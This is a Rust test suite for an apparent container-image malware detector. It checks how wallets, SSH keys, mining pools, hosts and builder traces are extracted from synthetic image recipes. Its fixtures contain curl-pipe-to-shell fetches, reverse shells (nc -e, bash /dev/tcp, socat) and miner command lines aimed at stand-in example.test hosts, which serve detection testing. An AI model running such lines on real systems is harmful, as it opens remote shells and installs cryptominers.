//! What ties images to each other is seen, and what everybody has is not.
#![allow(clippy::unwrap_used)]

use std::sync::LazyLock;

use lazaret_detect::{Judgement, LayerInput, Pack, judge, try_recipe};
use lazaret_model::{
    ContentId, EntryPath, Fact, FactKind, ImageReport, IndicatorKind, LayerFacts, Location, Role,
};
use lazaret_recipe::Recipe;

static PACK: LazyLock<Pack> = LazyLock::new(|| Pack::load(&[], None).unwrap());

fn judged(text: &str) -> ImageReport {
    let recipe = Recipe::parse(text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    try_recipe(&PACK, &recipe)
}

/// Values of one kind, with their places, but for those that are only spoken of.
fn seen(report: &ImageReport, kind: IndicatorKind) -> Vec<(String, String)> {
    let of_kind = report
        .sightings
        .iter()
        .filter(|sighting| sighting.indicator.kind == kind && sighting.role > Role::Mentioned);
    of_kind.map(|s| (s.indicator.value.clone(), s.location.to_string())).collect()
}

fn values(text: &str, kind: IndicatorKind) -> Vec<String> {
    seen(&judged(text), kind).into_iter().map(|(value, _)| value).collect()
}

/// A Monero address with a right checksum, made from a byte.
fn wallet(seed: u8) -> String {
    use sha3::{Digest, Keccak256};
    let mut raw = vec![18u8];
    raw.extend((0..64u8).map(|n| n.wrapping_mul(7).wrapping_add(seed)));
    let sum = Keccak256::digest(&raw);
    raw.extend_from_slice(&sum[..4]);
    base58_monero::encode(&raw).unwrap()
}

/// A well-formed key that nobody holds.
fn key(seed: u8) -> String {
    let mut blob = Vec::new();
    for field in [&b"ssh-ed25519"[..], &[seed; 32]] {
        blob.extend_from_slice(&(field.len() as u32).to_be_bytes());
        blob.extend_from_slice(field);
    }
    format!("ssh-ed25519 {}", data_encoding::BASE64.encode(&blob))
}

const DEBIAN: &str = "FILE /var/lib/dpkg/status\n    Package: tool\n    Status: install ok installed\n    Version: 1\n\
    FILE /var/lib/dpkg/info/tool.list\n    /.\n    /usr/bin/tool\n    /usr/share/tool/notes\n\
    FILE /var/lib/dpkg/info/tool.md5sums\n";

#[test]
fn wallets_and_keys_are_seen_in_files_of_nobody_and_in_removed_ones() {
    let (coin, key) = (wallet(1), key(7));
    let report = judged(&format!(
        "LAYER COPY a\nFILE /opt/notes\n    {coin}\nFILE /tmp/id.pub\n    {key} root@somewhere\n\
         LAYER RUN rm\nWHITEOUT /opt/notes\n"
    ));
    assert_eq!(seen(&report, IndicatorKind::Wallet), [(format!("xmr:{coin}"), "/opt/notes:1".to_owned())]);
    assert_eq!(seen(&report, IndicatorKind::SshKey), [(key, "/tmp/id.pub:1".to_owned())]);
}

#[test]
fn the_wallet_in_a_manual_is_its_authors_and_one_that_acts_counts_wherever_it_stands() {
    let coin = wallet(1);
    for path in ["/opt/miner/README.md", "/opt/miner/README", "/usr/share/doc/miner/x", "/srv/DONATIONS.txt"]
    {
        let text = format!("FILE {path}\n    Donations are welcome: {coin}\n");
        assert_eq!(values(&text, IndicatorKind::Wallet), Vec::<String>::new(), "{path}");
    }
    let acts = format!(
        "ELF /bin/m 0755\n    m\nFILE /README.md 0755\n    #!/bin/sh\n    /bin/m -o pool.example.test:3333 -u {coin}\n\
         CMD [\"/README.md\"]\n"
    );
    assert_eq!(values(&acts, IndicatorKind::Wallet), [format!("xmr:{coin}")]);
}

#[test]
fn a_wallet_in_a_manual_a_comment_a_message_or_a_sample_is_spoken_of_and_still_held() {
    let coin = wallet(4);
    for text in [
        format!("FILE /opt/miner/README.md\n    Donations are welcome: {coin}\n"),
        format!("FILE /opt/config.example.json\n    {{\"user\": \"{coin}\"}}\n"),
        format!("FILE /var/www/html/donate.html\n    <p>Donate <b>{coin}</b></p>\n"),
        format!(
            "FILE /opt/setup.sh 0755\n    #!/bin/sh\n    # Usage: setup.sh WALLET, e.g. {coin}\n    W=$1\n"
        ),
        format!(
            "FILE /opt/setup.sh 0755\n    #!/bin/sh\n    if [ -z \"$1\" ]; then echo \"ERROR: e.g. {coin}\"; exit 1; fi\n"
        ),
    ] {
        let report = judged(&text);
        let held: Vec<_> =
            report.sightings.iter().filter(|s| s.indicator.kind == IndicatorKind::Wallet).collect();
        assert_eq!(held.len(), 1, "{text}");
        assert_eq!(held[0].role, Role::Mentioned, "{text}");
    }
    let uses =
        format!("FILE /opt/config.json\n    {{\"user\": \"{coin}\"}}\nFILE /opt/README.md\n    {coin}\n");
    assert_eq!(
        seen(&judged(&uses), IndicatorKind::Wallet),
        [(format!("xmr:{coin}"), "/opt/config.json:1".to_owned())]
    );
}

#[test]
fn what_a_finding_names_is_seen_with_what_it_says() {
    let coin = wallet(5);
    let text = format!(
        "ELF /opt/m 0755\n    XMRig\nFILE /go.sh 0755\n    #!/bin/sh\n    exec /opt/m -o stratum+tcp://pool.example.test:3333 -u {coin} -p x\n\
         CMD [\"/go.sh\"]\n"
    );
    let report = judged(&text);
    let role = report.sightings.iter().find(|s| s.indicator.kind == IndicatorKind::Wallet).unwrap().role;
    assert_eq!(role, Role::Harms);
}

#[test]
fn an_address_that_is_fetched_and_run_has_what_the_finding_says_and_one_that_is_only_fetched_has_not() {
    let text = "ELF /opt/m 0755\n    XMRig\nFILE /go.sh 0755\n    #!/bin/sh\n    curl -s http://drop.actor.example.test/a.sh | sh\n    \
        curl -fsSL https://get.vendor.example.test/x -o /tmp/x\nCMD [\"/go.sh\"]\n";
    let report = judged(text);
    let role = |value: &str| report.sightings.iter().find(|s| s.indicator.value == value).unwrap().role;
    assert!(role("http://drop.actor.example.test/a.sh") >= Role::Suspected);
    assert!(role("https://get.vendor.example.test/x") < Role::Suspected);
}

#[test]
fn a_host_that_a_shell_is_handed_to_has_what_the_finding_says_and_one_that_is_merely_reached_has_not() {
    for shell in ["nc -e /bin/sh", "bash -i >& /dev/tcp/", "socat EXEC:/bin/sh TCP:"] {
        let text = match shell {
            "nc -e /bin/sh" => "nc c2.actor.example.test 4444 -e /bin/sh".to_owned(),
            "socat EXEC:/bin/sh TCP:" => "socat EXEC:/bin/sh TCP:c2.actor.example.test:4444".to_owned(),
            _ => "bash -i >& /dev/tcp/c2.actor.example.test/4444 0>&1".to_owned(),
        };
        let text = format!(
            "FILE /go.sh 0755\n    #!/bin/sh\n    nc -z db.vendor.example.test 5432\n    {text}\nCMD [\"/go.sh\"]\n"
        );
        let report = judged(&text);
        let role = |value: &str| {
            let seen = report.sightings.iter().find(|s| s.indicator.value == value);
            seen.unwrap_or_else(|| panic!("{value}: {:#?}", report.sightings)).role
        };
        assert!(role("c2.actor.example.test") >= Role::Harms, "{shell}: {:?}", role("c2.actor.example.test"));
        assert!(role("db.vendor.example.test") < Role::Suspected, "{shell}");
    }
}

#[test]
fn keys_of_machines_are_no_login_keys() {
    let key = key(9);
    for text in [
        format!("FILE /root/.ssh/known_hosts\n    code.example.test {key}\n"),
        format!("FILE /root/.ssh/known_hosts\n    gitserver {key}\n"),
        format!("FILE /etc/ssh/ssh_host_ed25519_key.pub\n    {key} root@somewhere\n"),
        format!(
            "FILE /a.sh 0755\n    #!/bin/sh\n    echo \"code.example.test {key}\" >> /root/.ssh/known_hosts\nCMD [\"/a.sh\"]\n"
        ),
    ] {
        assert_eq!(values(&text, IndicatorKind::SshKey), Vec::<String>::new(), "{text}");
    }
    for text in [
        format!("FILE /root/.ssh/authorized_keys\n    {key} me\n"),
        format!("FILE /root/.ssh/authorized_keys\n    no-pty,command=\"/bin/x.sh\" {key}\n"),
        format!(
            "FILE /a.sh 0755\n    #!/bin/sh\n    echo {key} >> /root/.ssh/authorized_keys\nCMD [\"/a.sh\"]\n"
        ),
    ] {
        assert_eq!(values(&text, IndicatorKind::SshKey), std::slice::from_ref(&key), "{text}");
    }
}

#[test]
fn an_address_of_ethereum_at_a_pool_is_one_wallet_however_it_is_written() {
    let lower = "0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed";
    let checked = "eth:0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed";
    for login in
        [lower.to_owned(), format!("{lower}.r1"), format!("ETH:{lower}.r2#x"), checked[4..].to_owned()]
    {
        let text = format!(
            "ELF /bin/m 0755\n    m\nCMD [\"/bin/m\", \"-o\", \"stratum+tcp://pool.example.test:3333\", \"-u\", \"{login}\"]\n"
        );
        assert_eq!(values(&text, IndicatorKind::Wallet), [checked], "{login}");
    }
}

#[test]
fn what_a_package_brought_ties_nobody() {
    let coin = wallet(2);
    let packaged = format!("{DEBIAN}FILE /usr/share/tool/notes\n    {coin}\n");
    assert_eq!(values(&packaged, IndicatorKind::Wallet), Vec::<String>::new());
    // Put over the package's file later, it is the maker's.
    let changed = format!(
        "LAYER RUN install\n{DEBIAN}FILE /usr/share/tool/notes\n    nothing\n\
         LAYER COPY notes\nFILE /usr/share/tool/notes\n    {coin}\n"
    );
    assert_eq!(values(&changed, IndicatorKind::Wallet), [format!("xmr:{coin}")]);
}

#[test]
fn the_lowest_of_several_places_is_told_once() {
    let coin = wallet(3);
    let report = judged(&format!(
        "LAYER COPY a\nFILE /b\n    {coin}\nLAYER COPY b\nFILE /a\n    {coin}\nENV WALLET={coin}\n"
    ));
    assert_eq!(seen(&report, IndicatorKind::Wallet), [(format!("xmr:{coin}"), "/b:1".to_owned())]);
}

#[test]
fn pools_and_logins_stand_in_the_configuration_too() {
    let text = "ELF /bin/x 0755\n    x\nENV POOL=stratum+tcp://somebody.rig@Pool.Example.test:3333\nCMD [\"/bin/x\"]\n";
    let report = judged(text);
    let pools = seen(&report, IndicatorKind::Pool);
    assert_eq!(pools[0].0, "stratum+tcp://pool.example.test:3333");
    assert!(pools[0].1.starts_with("history step"), "{pools:?}");
    assert_eq!(values(text, IndicatorKind::PoolLogin), ["somebody"]);
}

#[test]
fn hosts_and_addresses_come_from_what_acts_in_their_normal_form() {
    let script = "FILE /run.sh 0755\n    #!/bin/sh\n    curl -fsSL HTTP://C2.Example.test:80/a.jpg#x | sh\n\
        CMD [\"/run.sh\"]\n";
    assert_eq!(values(script, IndicatorKind::Url), ["http://c2.example.test/a.jpg"]);
    assert_eq!(values(script, IndicatorKind::Host), ["c2.example.test"]);
    // Text that nobody runs, and a program's strings.
    let data = "FILE /srv/readme\n    see http://home.example.test/page or 203.0.113.9:80\n\
        ELF /bin/x 0755\n    http://home.example.test/page\n";
    assert_eq!(values(data, IndicatorKind::Url), Vec::<String>::new());
    assert_eq!(values(data, IndicatorKind::Host), Vec::<String>::new());
}

#[test]
fn places_where_everybody_fetches_and_the_own_network_tie_nobody() {
    for address in [
        "https://deb.debian.org/debian/x",
        "http://10.0.0.7/x",
        "http://169.254.169.254/latest",
        "http://db.internal/x",
        "http://example.com/x",
        "http://192.168.1.1:8080/x",
    ] {
        let text = format!("FILE /run.sh 0755\n    #!/bin/sh\n    curl -o /x {address}\nCMD [\"/run.sh\"]\n");
        assert_eq!(values(&text, IndicatorKind::Url), Vec::<String>::new(), "{address}");
        assert_eq!(values(&text, IndicatorKind::Host), Vec::<String>::new(), "{address}");
    }
    // A place where anybody puts files says who by its path only.
    let text = "FILE /run.sh 0755\n    #!/bin/sh\n    curl -o /x https://github.com/somebody/x/raw/a\nCMD [\"/run.sh\"]\n";
    assert_eq!(values(text, IndicatorKind::Url), ["https://github.com/somebody/x/raw/a"]);
    assert_eq!(values(text, IndicatorKind::Host), Vec::<String>::new());
}

#[test]
fn what_a_build_fetches_from_a_named_host_says_nothing_and_from_a_bare_address_something() {
    let build =
        |address: &str| format!("LAYER RUN /bin/sh -c curl -o /x {address} # buildkit\nFILE /x\n    x\n");
    assert_eq!(values(&build("https://jdk.example.org/x"), IndicatorKind::Url), Vec::<String>::new());
    assert_eq!(values(&build("http://203.0.113.7/x"), IndicatorKind::Url), ["http://203.0.113.7/x"]);
}

#[test]
fn scripts_and_programs_of_nobody_are_known_by_their_hash() {
    let text = format!(
        "LAYER RUN install\n{DEBIAN}ELF /usr/bin/tool 0755\n    tool\n\
         LAYER COPY .\nFILE /opt/a.sh\n    #!/bin/sh\n    echo a\nELF /opt/b 0755\n    b\nFILE /opt/page.html\n    <p>text</p>\n"
    );
    let report = judged(&text);
    let scripts = seen(&report, IndicatorKind::ScriptHash);
    let programs = seen(&report, IndicatorKind::ElfHash);
    assert_eq!(scripts.iter().map(|(_, place)| place.as_str()).collect::<Vec<_>>(), ["/opt/a.sh"]);
    assert_eq!(programs.iter().map(|(_, place)| place.as_str()).collect::<Vec<_>>(), ["/opt/b"]);
    assert!(scripts[0].0.starts_with("sha256:") && scripts[0].0.len() == 71, "{scripts:?}");
}

#[test]
fn a_fuzzy_hash_says_of_what_it_is() {
    let lines: String =
        (0..60).map(|n| format!("    echo line {n} does {} and {}\n", n * 37, n ^ 21)).collect();
    let report = judged(&format!("FILE /opt/long.sh 0755\n    #!/bin/sh\n{lines}CMD [\"/opt/long.sh\"]\n"));
    let fuzzy = seen(&report, IndicatorKind::FuzzyHash);
    assert_eq!(fuzzy.len(), 1, "{fuzzy:?}");
    assert!(fuzzy[0].0.starts_with("script T1"), "{fuzzy:?}");
}

#[test]
fn layers_that_bring_something_of_the_makers_own_are_told_and_the_base_is_not() {
    let text = format!(
        "LAYER ADD base\n{DEBIAN}FILE /opt/base.sh 0755\n    #!/bin/sh\n    echo base\n\
         LAYER RUN install\nELF /usr/bin/tool 0755\n    tool\n\
         LAYER COPY data\nFILE /srv/page.html\n    <p>text</p>\n\
         LAYER COPY crontab\nFILE /etc/cron.d/job\n    * * * * * root /opt/base.sh\n"
    );
    let report = judged(&text);
    assert_eq!(
        seen(&report, IndicatorKind::Layer).into_iter().map(|(_, place)| place).collect::<Vec<_>>(),
        ["layer 3"]
    );
    let alone = judged("LAYER COPY x\nFILE /x 0755\n    #!/bin/sh\n    echo x\n");
    assert_eq!(alone.sightings.iter().filter(|s| s.location == Location::Layer(0)).count(), 1);
}

#[test]
fn variables_and_labels_of_few_are_told_with_the_step_that_set_them() {
    let report = judged(
        "LAYER COPY x\nFILE /x\n    x\nENV PATH=/bin\nENV RIG=h7Gk-qq0\nENV APP_VERSION=1.2.3\nENV DEBUG=true\n\
         LABEL com.maker.line=seventeen\nLABEL org.opencontainers.image.source=https://a.example.test/x\n",
    );
    let variables = seen(&report, IndicatorKind::Environment);
    assert_eq!(variables.iter().map(|(value, _)| value.as_str()).collect::<Vec<_>>(), ["RIG=h7Gk-qq0"]);
    assert!(variables[0].1.starts_with("history step"), "{variables:?}");
    let labels = seen(&report, IndicatorKind::Label);
    assert_eq!(
        labels.iter().map(|(value, _)| value.as_str()).collect::<Vec<_>>(),
        ["com.maker.line=seventeen"]
    );
}

#[test]
fn without_a_history_a_variable_stands_in_the_configuration() {
    let report = judged("BUILDER none\nLAYER -\nFILE /x\n    x\nENV RIG=h7Gk-qq0\n");
    let place = seen(&report, IndicatorKind::Environment)[0].1.clone();
    assert_eq!(place, "config Env[0]");
}

#[test]
fn the_builder_is_known_by_name_machine_home_and_zone() {
    let text = "LAYER COPY /home/zhang3/src/x /x\nFILE /x\n    x\n\
        LAYER RUN /bin/sh -c cp C:\\Users\\kim.lee\\x /y\nFILE /y\n    y\n\
        AUTHOR dm117 <root@Build7.Example.test>\nLABEL maintainer=someone9@gmail.com\n";
    let mut recipe = Recipe::parse(text).unwrap();
    recipe.config.history[0].created = "2024-05-17T08:10:00.5+08:00".to_owned();
    recipe.config.history[0].comment = "deploy.sh v0.4".to_owned();
    let report = try_recipe(&PACK, &recipe);
    let traces: Vec<String> =
        seen(&report, IndicatorKind::BuilderTrace).into_iter().map(|(value, _)| value).collect();
    assert_eq!(
        traces,
        [
            "host build7.example.test",
            "path /home/zhang3",
            "path C:\\Users\\kim.lee",
            "tool deploy.sh v0.4",
            "user dm117",
            "user someone9@gmail.com",
            "zone +08:00"
        ]
    );
    assert_eq!(values(text, IndicatorKind::Label), Vec::<String>::new(), "told as a trace");
}

#[test]
fn users_of_the_container_and_names_of_everybody_are_no_trace() {
    let text = "LAYER RUN /bin/sh -c useradd -m app1 && cp /home/app1/x /home/runner/y # buildkit\nFILE /x\n    x\n\
        LAYER COPY /home/node7/x /home/node7/y\nFILE /home/node7/y\n    y\nAUTHOR root <root@localhost>\n";
    let traces = values(text, IndicatorKind::BuilderTrace);
    assert_eq!(traces, Vec::<String>::new());
}

#[test]
fn there_are_never_more_than_a_thousand_of_bounded_length_sorted_and_each_once() {
    let mut text = String::from("LAYER COPY .\n");
    for n in 0..400 {
        text.push_str(&format!("FILE /opt/{n}.sh 0755\n    #!/bin/sh\n    echo {n}\n"));
        text.push_str(&format!("ELF /opt/{n} 0755\n    program {n}\n"));
        text.push_str(&format!("ENV RIG{n}=h7Gk-{n}\nLABEL com.maker.{n}=h7Gk-{n}\n"));
    }
    for n in 0..=255 {
        text.push_str(&format!("FILE /srv/{n}\n    {}\n", wallet(n)));
    }
    text.push_str(&format!("ENV LONG={}\nCMD [\"/opt/399.sh\"]\n", "x".repeat(5_000)));
    let report = judged(&text);
    let seen = &report.sightings;
    assert!(seen.len() > 600 && seen.len() <= 1_000, "{}", seen.len());
    assert!(seen.iter().all(|sighting| sighting.indicator.value.len() <= 2_000));
    assert!(seen.is_sorted());
    assert!(seen.windows(2).all(|two| two[0].indicator != two[1].indicator));
    // What starts is kept where there is too much.
    assert!(
        seen.iter().any(|s| s.indicator.kind == IndicatorKind::ScriptHash && s.location.to_string() == "/opt/399.sh")
    );
}

#[test]
fn a_login_at_a_pool_is_seen_on_a_command_line_and_that_of_another_tool_is_not() {
    let text = "ELF /bin/m 0755\n    m\nCMD [\"/bin/m\", \"-o\", \"pool.example.test:3333\", \"--user=someone.rig1\"]\n";
    assert_eq!(values(text, IndicatorKind::PoolLogin), ["someone"]);
    let other = "ELF /bin/curl 0755\n    c\nCMD [\"/bin/curl\", \"-o\", \"/out\", \"-u\", \"someone\", \"http://a.example.test/\"]\n";
    assert_eq!(values(other, IndicatorKind::PoolLogin), Vec::<String>::new());
    let coin = format!(
        "ELF /bin/m 0755\n    m\nCMD [\"/bin/m\", \"-o\", \"pool.example.test:3333\", \"-u\", \"{}.w\"]\n",
        wallet(9)
    );
    assert_eq!(values(&coin, IndicatorKind::PoolLogin), Vec::<String>::new(), "a wallet is a wallet");
}

#[test]
fn whoever_signed_a_key_or_a_script_is_known() {
    let text = format!(
        "FILE /tmp/id.pub\n    {} root@forge9\nFILE /opt/a.sh 0755\n    #!/bin/sh\n    # init v0.2 dm117@build7\n    echo a\n",
        key(3)
    );
    assert_eq!(values(&text, IndicatorKind::BuilderTrace), ["host build7", "host forge9", "user dm117"]);
    let others = "FILE /opt/a.sh 0755\n    #!/bin/sh\n    # by someone@mail.example.test, needs pkg@latest, user@host\n    x=me@there\n";
    assert_eq!(values(others, IndicatorKind::BuilderTrace), Vec::<String>::new());
}

#[test]
fn owners_of_the_archive_that_the_container_does_not_know_are_traces() {
    let facts = |users: &[&str]| LayerFacts {
        facts: vec![Fact::about(
            &EntryPath::default(),
            FactKind::ArchiveOwners {
                users: users.iter().map(|&name| name.to_owned()).collect(),
                groups: ["dm117", "minters", "wheel"].map(str::to_owned).into(),
            },
        )],
        complete: true,
        ..LayerFacts::default()
    };
    let mut image = judged("LAYER COPY a\nFILE /x\n    x\n").image;
    image.config.user = String::new();
    let read = facts(&["dm117", "runner", "root"]);
    let inputs = [LayerInput { facts: &read, matches: &[] }];
    let contents = std::collections::BTreeMap::<ContentId, std::sync::Arc<[u8]>>::new();
    let Judgement::Report(report) = judge(&PACK, &image, &inputs, Vec::new(), &contents, true) else {
        panic!("the judge asks in its last round")
    };
    assert_eq!(
        seen(&report, IndicatorKind::BuilderTrace),
        [("group minters".to_owned(), "layer 0".to_owned()), ("user dm117".to_owned(), "layer 0".to_owned())]
    );
}

#[test]
fn packages_as_they_were_fetched_and_copies_of_their_templates_are_nobodys() {
    let coin = wallet(4);
    let cached = format!("TARGZ /var/cache/apt/archives/a.deb\n    FILE doc\n        {coin}\n");
    assert_eq!(values(&cached, IndicatorKind::Wallet), Vec::<String>::new());
    let brought = format!("TARGZ /opt/a.tgz\n    FILE doc\n        {coin}\n");
    assert_eq!(values(&brought, IndicatorKind::Wallet), [format!("xmr:{coin}")]);
    let script = "    #!/bin/sh\n    # for everybody who logs in\n    umask 022\n";
    let template = format!("FILE /usr/share/base-files/profile\n{script}");
    let database = DEBIAN.replace("/usr/share/tool/notes", "/usr/share/base-files/profile");
    let home = format!("FILE /root/.profile\n{script}");
    let copied = values(&format!("{database}{template}{home}"), IndicatorKind::ScriptHash);
    assert_eq!(copied, Vec::<String>::new());
    // What lies beside the package's templates and is none of them excuses nobody.
    assert_eq!(values(&format!("{DEBIAN}{template}{home}"), IndicatorKind::ScriptHash).len(), 1);
    let written = format!("FILE /root/.profile\n{script}");
    assert_eq!(values(&written, IndicatorKind::ScriptHash).len(), 1);
}
